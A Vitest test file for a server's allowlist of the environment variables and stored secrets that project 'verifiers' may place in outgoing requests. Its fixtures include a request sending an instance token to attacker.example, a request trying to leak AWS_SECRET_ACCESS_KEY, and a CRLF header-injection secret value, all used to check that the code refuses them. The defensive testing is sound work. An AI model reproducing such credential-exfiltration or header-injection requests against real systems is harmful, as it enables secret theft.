import { describe, expect, it } from "vitest";
import { allowlistedSecrets, definitionSecrets, grantedTo, parseSecretAllowlist, secretAllowlistProblems, secretNameProblem, storedSecretNames, verifierSecretBodySchema } from "./verifier-secrets";
import { operationContext, renderRequest, TemplateError } from "./verifier-template";
import { EXAMPLE } from "./fixtures/verifier-example";

const ctx = operationContext("op-1", [{ stage: "receipt", seq: 1, data: { status: "accepted", receipt_id: "r1", observed_at: "2026-08-28T10:00:00Z" }, envelope: null }]);
const env: Record<string, string> = { X_READ_TOKEN: "read-token", AWS_SECRET_ACCESS_KEY: "instance-credential" };

describe("RECONCILE_VERIFIER_ENV: the environment variables verifiers may use", () => {
  it("is a list of names, split on commas or spaces; unset or blank names none", () => {
    expect(parseSecretAllowlist(undefined)).toEqual({ grants: [], names: [], refused: [] });
    expect(parseSecretAllowlist("  ")).toEqual({ grants: [], names: [], refused: [] });
    expect(parseSecretAllowlist("X_READ_TOKEN, SOCIAL_TOKEN  BILLING_KEY,,").names).toEqual(["X_READ_TOKEN", "SOCIAL_TOKEN", "BILLING_KEY"]);
    expect(parseSecretAllowlist("A,A").names).toEqual(["A"]);
  });

  it("never names the server's own configuration, nor what is not a variable's name; each refusal says why", () => {
    const { names, refused } = parseSecretAllowlist("DATABASE_URL,AUTH_SECRET,RECONCILE_ARCHIVE_URL,PGPASSWORD,X_READ_TOKEN,1BAD,a-b");
    expect(names).toEqual(["X_READ_TOKEN"]);
    expect(refused.map((r) => r.name)).toEqual(["DATABASE_URL", "AUTH_SECRET", "RECONCILE_ARCHIVE_URL", "PGPASSWORD", "1BAD", "a-b"]);
    expect(refused[0].why).toMatch(/server's own configuration/);
    expect(refused[5].why).toMatch(/not an environment variable's name/);
  });
});

describe("RECONCILE_VERIFIER_ENV grants each variable to projects: an instance credential is not a project admin's", () => {
  it("a bare name serves the default project only (its admins are the instance's); NAME@a+b those projects; NAME@* every one", () => {
    const { grants, refused } = parseSecretAllowlist("SOCIAL_READ_TOKEN, BILLING_KEY@billing+default OPEN_DATA@* ALPHA_KEY@alpha");
    expect(refused).toEqual([]);
    expect(grants).toEqual([
      { name: "SOCIAL_READ_TOKEN", projects: ["default"] },
      { name: "BILLING_KEY", projects: ["billing", "default"] },
      { name: "OPEN_DATA", projects: "*" },
      { name: "ALPHA_KEY", projects: ["alpha"] },
    ]);
    expect(grantedTo(grants, "default")).toEqual(["SOCIAL_READ_TOKEN", "BILLING_KEY", "OPEN_DATA"]);
    expect(grantedTo(grants, "alpha")).toEqual(["OPEN_DATA", "ALPHA_KEY"]);
    expect(grantedTo(grants, "billing")).toEqual(["BILLING_KEY", "OPEN_DATA"]);
    expect(grantedTo(grants, "other")).toEqual(["OPEN_DATA"]);
  });

  it("a name listed twice is granted to both lists of projects; * wins", () => {
    expect(parseSecretAllowlist("K@alpha K@beta").grants).toEqual([{ name: "K", projects: ["alpha", "beta"] }]);
    expect(parseSecretAllowlist("K K@alpha").grants).toEqual([{ name: "K", projects: ["default", "alpha"] }]);
    expect(parseSecretAllowlist("K@alpha K@* K@beta").grants).toEqual([{ name: "K", projects: "*" }]);
  });

  it("what follows @ must be slugs or *; the server's own configuration stays refused with any grant", () => {
    const { grants, refused } = parseSecretAllowlist("A@ B@Alpha C@alpha+ D@alpha,beta AUTH_SECRET@alpha E@-x");
    // "D@alpha,beta" is two entries: D for alpha, and a variable named beta for the default project.
    expect(grants).toEqual([
      { name: "D", projects: ["alpha"] },
      { name: "beta", projects: ["default"] },
    ]);
    expect(refused.map((r) => r.name)).toEqual(["A@", "B@Alpha", "C@alpha+", "AUTH_SECRET", "E@-x"]);
    expect(refused[0].why).toMatch(/after @ come the projects' slugs/);
    expect(refused.find((r) => r.name === "AUTH_SECRET")!.why).toMatch(/server's own configuration/);
  });

  it("a project's admin is refused an instance variable at save, the refusal naming it and what to do instead", () => {
    const def = { request: { method: "GET", url: "https://attacker.example/", headers: { Authorization: "Bearer {env.SOCIAL_READ_TOKEN}" } } };
    const { grants } = parseSecretAllowlist("SOCIAL_READ_TOKEN");
    expect(secretAllowlistProblems(def, grantedTo(grants, "default"), "default")).toEqual([]);
    expect(secretAllowlistProblems(def, grantedTo(grants, "alpha"), "alpha")).toEqual([
      {
        path: ["request", "headers", "Authorization"],
        message: "{env.SOCIAL_READ_TOKEN}: this server lets project alpha's verifiers use no environment variables (RECONCILE_VERIFIER_ENV grants it none); keep this project's credentials as its own secrets ({secret.NAME})",
      },
    ]);
    expect(secretAllowlistProblems(def, ["OPEN_DATA"], "alpha")[0].message).toBe(
      "{env.SOCIAL_READ_TOKEN}: this server lets project alpha's verifiers use only the environment variables RECONCILE_VERIFIER_ENV grants it (OPEN_DATA); keep this project's credentials as its own secrets ({secret.NAME})",
    );
  });

  it("at run time, a definition saved before the grant was narrowed is not sent: the check fails naming the variable and the project", () => {
    const { grants } = parseSecretAllowlist("X_READ_TOKEN");
    let read = false;
    const secrets = allowlistedSecrets(grantedTo(grants, "alpha"), () => ((read = true), "instance-credential"), "alpha");
    expect(() => renderRequest(EXAMPLE.request, ctx, secrets)).toThrow("the environment variable X_READ_TOKEN is not one this server lets project alpha's verifiers use (RECONCILE_VERIFIER_ENV); nothing was sent");
    expect(read).toBe(false);
    const granted = allowlistedSecrets(grantedTo(parseSecretAllowlist("X_READ_TOKEN@alpha").grants, "alpha"), (name) => env[name], "alpha");
    expect(renderRequest(EXAMPLE.request, ctx, granted).send.headers.Authorization).toBe("Bearer read-token");
  });
});

describe("a definition's secrets against the allowlist", () => {
  const def = {
    request: { method: "GET", url: "https://api.example.com/{env.PATH_KEY}/{receipt.receipt_id}", headers: { Authorization: "Bearer {env.X_READ_TOKEN}", "X-Other": "{env.AWS_SECRET_ACCESS_KEY}" }, body: "k={env.X_READ_TOKEN}" },
  };

  it("every {env.NAME}, where it is written", () => {
    expect(definitionSecrets(def)).toEqual([
      { path: ["request", "url"], name: "PATH_KEY" },
      { path: ["request", "headers", "Authorization"], name: "X_READ_TOKEN" },
      { path: ["request", "headers", "X-Other"], name: "AWS_SECRET_ACCESS_KEY" },
      { path: ["request", "body"], name: "X_READ_TOKEN" },
    ]);
  });

  it("names each one the allowlist lacks, with the names it has", () => {
    expect(secretAllowlistProblems(def, ["X_READ_TOKEN"])).toEqual([
      { path: ["request", "url"], message: "{env.PATH_KEY}: this server lets verifiers use only the environment variables RECONCILE_VERIFIER_ENV names (X_READ_TOKEN)" },
      { path: ["request", "headers", "X-Other"], message: "{env.AWS_SECRET_ACCESS_KEY}: this server lets verifiers use only the environment variables RECONCILE_VERIFIER_ENV names (X_READ_TOKEN)" },
    ]);
    expect(secretAllowlistProblems(def, [])[0].message).toBe("{env.PATH_KEY}: this server lets verifiers use no environment variables (RECONCILE_VERIFIER_ENV names none)");
    expect(secretAllowlistProblems(def, ["X_READ_TOKEN", "PATH_KEY", "AWS_SECRET_ACCESS_KEY"])).toEqual([]);
    expect(secretAllowlistProblems(EXAMPLE, ["X_READ_TOKEN"])).toEqual([]);
  });

  it("stored secrets are not environment variables: the allowlist leaves them alone, and they are listed apart", () => {
    const withStored = { request: { method: "GET", url: "https://h/{secret.A}", headers: { Authorization: "Bearer {secret.B}", "X-Env": "{env.X_READ_TOKEN}" }, body: "{secret.A}" } };
    expect(secretAllowlistProblems(withStored, ["X_READ_TOKEN"])).toEqual([]);
    expect(definitionSecrets(withStored)).toEqual([{ path: ["request", "headers", "X-Env"], name: "X_READ_TOKEN" }]);
    expect(storedSecretNames(withStored)).toEqual(["A", "B"]);
    const source = allowlistedSecrets([], (name, kind) => (kind === "secret" ? `stored-${name}` : "env"));
    expect(source("A", "secret")).toBe("stored-A");
    expect(() => source("A")).toThrow(TemplateError);
  });

  it("at run time, a variable off the list is never read, even when it is set: the check fails naming it", () => {
    const secrets = allowlistedSecrets(["X_READ_TOKEN"], (name) => env[name]);
    expect(renderRequest(EXAMPLE.request, ctx, secrets).send.headers.Authorization).toBe("Bearer read-token");
    const leak = { method: "GET", url: "https://api.example.com/x", headers: { Authorization: "Bearer {env.AWS_SECRET_ACCESS_KEY}" } };
    expect(() => renderRequest(leak, ctx, secrets)).toThrow(TemplateError);
    expect(() => renderRequest(leak, ctx, secrets)).toThrow("the environment variable AWS_SECRET_ACCESS_KEY is not one this server lets verifiers use (RECONCILE_VERIFIER_ENV); nothing was sent");
    let read = false;
    allowlistedSecrets([], () => ((read = true), "x"));
    expect(() => renderRequest(leak, ctx, allowlistedSecrets([], () => ((read = true), "x")))).toThrow(TemplateError);
    expect(read).toBe(false);
  });
});

describe("a stored secret's name and value", () => {
  it("a name is what {secret.NAME} can name", () => {
    for (const ok of ["SOCIAL_TOKEN", "_x", "a1", "A".repeat(64)]) expect(secretNameProblem(ok)).toBeNull();
    for (const bad of ["", "1a", "a-b", "a.b", "A".repeat(65), "é", "a b"]) expect(secretNameProblem(bad)).toMatch(/letters, digits and _/);
  });

  it("a value is one line of printable ASCII, 8 to 8,192 characters, no spaces at its ends", () => {
    expect(verifierSecretBodySchema.safeParse({ value: "tok-123 with spaces" }).success).toBe(true);
    expect(verifierSecretBodySchema.safeParse({ value: "x".repeat(8192) }).success).toBe(true);
    const bad = [{ value: "" }, { value: "e" }, { value: "1234567" }, { value: "a\r\nX-Injected: 1 long" }, { value: "abcdefgh\u0000" }, { value: "abcdefgh\u2028" }, { value: "abcdefgh\u0100" }];
    bad.push({ value: " padded-secret " }, { value: "abcdefgh\u0085" }, { value: "abcdefgh\ud800" }, { value: "x".repeat(8193) });
    for (const b of [...bad, { value: 5 }, {}, { value: "x", other: 1 }]) expect(verifierSecretBodySchema.safeParse(b).success, JSON.stringify(b)).toBe(false);
  });
});
